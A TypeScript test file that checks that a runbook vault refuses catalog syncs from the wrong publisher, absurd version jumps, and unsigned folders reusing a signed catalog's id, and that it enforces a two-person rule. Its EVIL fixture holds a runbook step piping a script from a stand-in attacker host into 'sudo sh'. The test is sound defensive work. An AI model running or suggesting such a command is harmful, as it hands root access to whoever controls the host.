/**
 * Issue 15, M3 and issue 17, written as the attacks: a second trusted
 * publisher signs the catalog id of the first, rewrites its runbooks and
 * squats version 2^53 − 1; an unsigned folder is synced under a signed
 * catalog's id; a commander syncs a change to a two-person procedure.
 * Every refusal leaves the records, the applied versions and the log as
 * they were.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { LifeboatError, type ErrorCode } from '../../shared/errors.js';
import type { CatalogRef } from '../../shared/records.js';
import { PASSPHRASES, newVault, unlockAs } from '../../test/support/test-vault.js';
import { auditEntries } from '../vault/audit/vault-audit.js';
import { createRecord, editRecord, revealField } from '../vault/records/vault-records.js';
import { addMember } from '../vault/vault-members.js';
import type { VaultSession } from '../vault/vault-session.js';
import { packCatalog } from './catalog-manifest.js';
import { catalogPins, MAX_VERSION_JUMP } from './catalog-pins.js';
import { syncCatalog, type SyncOptions, type SyncSource } from './catalog-sync.js';
import { appliedVersions, trustPublisher } from './catalog-trust.js';
import { encodeBase64, generatePublisherKey, writePublisherKey, type PublisherKey } from './publisher-key.js';

let work: string;
let platform: PublisherKey;
let mallory: PublisherKey;
const keyPaths: Record<string, string> = {};

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'lifeboat-pins-'));
  platform = await generatePublisherKey('Platform team');
  mallory = await generatePublisherKey('Mallory tools');
  keyPaths['platform'] = join(work, 'platform.key');
  keyPaths['mallory'] = join(work, 'mallory.key');
  await writePublisherKey(keyPaths['platform'], platform);
  await writePublisherKey(keyPaths['mallory'], mallory);
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

const open: VaultSession[] = [];
afterEach(async () => {
  for (const session of open.splice(0)) {
    if (!session.isLocked) {
      await session.lock();
    }
  }
});

const RESTORE = '---\ntitle: Restore the database\n---\n# Restore the database\n\n1. Stop writes\n2. Restore the last good backup\n';
const EVIL = '---\ntitle: Restore the database\n---\n# Restore the database\n\n1. Run curl https://evil.example/fix.sh | sudo sh\n';

async function folder(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(join(work, 'catalog-'));
  for (const [path, text] of Object.entries(files)) {
    await mkdir(join(dir, path, '..'), { recursive: true });
    await writeFile(join(dir, path), text);
  }
  return dir;
}

async function signed(by: 'platform' | 'mallory', catalogId: string, catalogVersion: number, files: Record<string, string>): Promise<SyncSource> {
  const { bytes } = await packCatalog({ srcDir: await folder(files), keyPath: keyPaths[by] ?? '', catalogVersion, catalogId });
  return { kind: 'signed', bytes, label: `${catalogId}-v${catalogVersion}.lbcat` };
}

async function vaultTrustingBoth(): Promise<{ dir: string; session: VaultSession }> {
  const created = await newVault();
  open.push(created.session);
  await trustPublisher(created.session, { name: 'Platform team', keyId: platform.keyId, publicKey: encodeBase64(platform.publicKey) });
  await trustPublisher(created.session, { name: 'Mallory tools', keyId: mallory.keyId, publicKey: encodeBase64(mallory.publicKey) });
  return created;
}

function restoreBody(session: VaultSession, catalogId = 'ops'): string {
  const record = session
    .store()
    .all()
    .find((r) => (r.data['catalogRef'] as CatalogRef | undefined)?.catalogId === catalogId);
  return JSON.stringify(record?.data['steps'] ?? null);
}

/** Refused with `code`, and nothing a sync writes changed: records, applied versions, pins, the log. */
async function expectRefused(session: VaultSession, source: SyncSource, options: SyncOptions, code: ErrorCode): Promise<LifeboatError> {
  const before = { records: session.store().all(), applied: appliedVersions(session), pins: catalogPins(session), log: session.internals().log.size };
  let error: unknown;
  try {
    await syncCatalog(session, source, options);
  } catch (caught) {
    error = caught;
  }
  expect(error).toBeInstanceOf(LifeboatError);
  expect((error as LifeboatError).code, (error as LifeboatError).message).toBe(code);
  expect({ records: session.store().all(), applied: appliedVersions(session), pins: catalogPins(session), log: session.internals().log.size }).toEqual(before);
  return error as LifeboatError;
}

describe('a catalog id is pinned to the publisher of its first sync', () => {
  it('attack: another trusted publisher signs "ops", rewrites its runbook and squats version 2^53 − 1 → refused, the real publisher carries on', async () => {
    const { session } = await vaultTrustingBoth();
    await syncCatalog(session, await signed('platform', 'ops', 1, { 'db/restore.md': RESTORE }));
    expect(catalogPins(session)['ops']).toMatchObject({ keyId: platform.keyId, publisher: 'Platform team', pinnedBy: 'alice' });
    const good = restoreBody(session);

    const squat = await signed('mallory', 'ops', Number.MAX_SAFE_INTEGER, { 'db/restore.md': EVIL });
    const error = await expectRefused(session, squat, {}, 'CATALOG_PUBLISHER_CHANGED');
    expect(error.message).toContain('belongs to publisher "Platform team"');
    expect(error.message).toContain(`signed by "Mallory tools" (key ${mallory.keyId})`);
    await expectRefused(session, await signed('mallory', 'ops', 2, { 'db/restore.md': EVIL }), {}, 'CATALOG_PUBLISHER_CHANGED');
    // Even asking for a downgrade or a jump does not help: the pin is checked first.
    await expectRefused(session, squat, { allowDowngrade: true, allowVersionJump: true }, 'CATALOG_PUBLISHER_CHANGED');
    expect(restoreBody(session)).toBe(good);

    // The rightful publisher's next version still applies.
    const next = await syncCatalog(session, await signed('platform', 'ops', 2, { 'db/restore.md': RESTORE.replace('Stop writes', 'Stop all writes') }));
    expect(next.applied?.changed).toBe(1);
    // Mallory's own catalogs are still welcome under their own id.
    await syncCatalog(session, await signed('mallory', 'mallory-tools', 1, { 'x.md': '# Tool\n\n1. Use it\n' }));
    expect(catalogPins(session)['mallory-tools']?.keyId).toBe(mallory.keyId);
  });

  it('an absurd version jump is refused with a clear message, even from the pinned publisher; an owner may allow one, logged', async () => {
    const { session } = await vaultTrustingBoth();
    await syncCatalog(session, await signed('platform', 'ops', 3, { 'db/restore.md': RESTORE }));
    const huge = await signed('platform', 'ops', Number.MAX_SAFE_INTEGER, { 'db/restore.md': RESTORE.replace('Stop writes', 'Stop') });
    const error = await expectRefused(session, huge, {}, 'CATALOG_VERSION_JUMP');
    expect(error.message).toContain(`version ${Number.MAX_SAFE_INTEGER} jumps from version 3 by more than ${MAX_VERSION_JUMP}`);
    // A first sync cannot start at the top either.
    const { session: fresh } = await (async () => {
      await session.lock();
      return vaultTrustingBoth();
    })();
    await expectRefused(fresh, huge, {}, 'CATALOG_VERSION_JUMP');
    // Dates and Unix seconds as versions are fine.
    await syncCatalog(fresh, await signed('platform', 'ops', 2026060101, { 'db/restore.md': RESTORE }));
    const allowed = await syncCatalog(fresh, huge, { allowVersionJump: true });
    expect(allowed.applied?.changed).toBe(1);
    expect(
      auditEntries(fresh)
        .filter((e) => e.event.type === 'catalog.synced')
        .at(-1)?.event.details,
    ).toMatchObject({ versionJumpFrom: 2026060101 });
  });

  it('an owner re-pins explicitly (logged); a commander cannot', async () => {
    const { dir, session } = await vaultTrustingBoth();
    await addMember(session, { name: 'bob', role: 'commander', passphrase: PASSPHRASES['bob'] ?? '' });
    await syncCatalog(session, await signed('platform', 'ops', 1, { 'db/restore.md': RESTORE }));
    const moved = await signed('mallory', 'ops', 2, { 'db/restore.md': RESTORE });
    await session.lock();
    const bob = await unlockAs(dir, 'bob');
    open.push(bob);
    await expectRefused(bob, moved, { repin: true }, 'VAULT_FORBIDDEN');
    await bob.lock();
    const alice = await unlockAs(dir, 'alice');
    open.push(alice);
    await syncCatalog(alice, moved, { repin: true });
    expect(catalogPins(alice)['ops']).toMatchObject({ keyId: mallory.keyId, publisher: 'Mallory tools' });
    const types = auditEntries(alice).map((e) => e.event);
    expect(types.find((e) => e.type === 'catalog.publisher-repinned')).toMatchObject({
      actor: 'alice',
      details: { catalogId: 'ops', fromKeyId: platform.keyId, toKeyId: mallory.keyId },
    });
    // The old key is the stranger now.
    await expectRefused(alice, await signed('platform', 'ops', 3, { 'db/restore.md': RESTORE }), {}, 'CATALOG_PUBLISHER_CHANGED');
  });
});

describe('an unsigned folder under a signed catalog’s id (issue 17)', () => {
  it('attack: an owner’s unsigned folder named "ops" would replace, archive and downgrade the signed records → refused', async () => {
    const { session } = await vaultTrustingBoth();
    await syncCatalog(session, await signed('platform', 'ops', 5, { 'db/restore.md': RESTORE, 'db/check.md': '# Check\n\n1. Look\n' }));
    const evil = await folder({ 'db/restore.md': EVIL });
    const error = await expectRefused(session, { kind: 'unsigned', dir: evil, catalogId: 'ops' }, {}, 'CATALOG_UNTRUSTED');
    expect(error.message).toContain('an unsigned folder cannot replace, archive or downgrade its records');
    await expectRefused(session, { kind: 'unsigned', dir: evil, catalogId: 'ops' }, { dryRun: true }, 'CATALOG_UNTRUSTED');
    expect(appliedVersions(session)['ops']).toBe(5);
    // Under an id of its own, the folder is an owner's draft as before.
    expect((await syncCatalog(session, { kind: 'unsigned', dir: evil, catalogId: 'ops-drafts' })).applied?.added).toBe(1);
  });
});

describe('a catalog and the two-person rule (issue 15, M2)', () => {
  it('lists secrets by id once they exist, keeps an owner’s mark, and a commander cannot sync a change to a two-person procedure', async () => {
    const { dir, session } = await vaultTrustingBoth();
    await addMember(session, { name: 'bob', role: 'commander', passphrase: PASSPHRASES['bob'] ?? '' });
    const root = (await createRecord(session, { type: 'secret', title: 'AWS root', data: { password: 'root-pw' } })).id;
    const page = (secrets: string): string => `---\nlifeboat:\n  type: procedure\n  secrets: [${secrets}]\n---\n# Fail over\n\n1. Do it\n`;
    await syncCatalog(session, await signed('platform', 'ops', 1, { 'dr.md': page('aws root, not yet made') }));
    const procedure = session
      .store()
      .all()
      .find((r) => r.type === 'procedure');
    expect(procedure?.data['secrets']).toEqual([root, 'not yet made']);
    await editRecord(session, procedure?.id ?? '', { set: { twoPerson: true } });

    await session.lock();
    const bob = await unlockAs(dir, 'bob');
    open.push(bob);
    expect((await revealField(bob, root, 'password', 'INC-1').catch((e: unknown) => e as LifeboatError)) as LifeboatError).toMatchObject({
      code: 'TWO_PERSON_REQUIRED',
    });
    const dropped = await signed('platform', 'ops', 2, { 'dr.md': page('') });
    const error = await expectRefused(bob, dropped, { conflicts: 'take-catalog' }, 'VAULT_FORBIDDEN');
    expect(error.message).toContain('under the two-person rule: only an owner can sync it');
    await bob.lock();
    const alice = await unlockAs(dir, 'alice');
    open.push(alice);
    await syncCatalog(alice, dropped, { conflicts: 'take-catalog' });
    // The catalog changed the list; the owner's mark stays.
    expect(alice.store().get(procedure?.id ?? '')?.data).toMatchObject({ twoPerson: true, secrets: [] });
  });
});
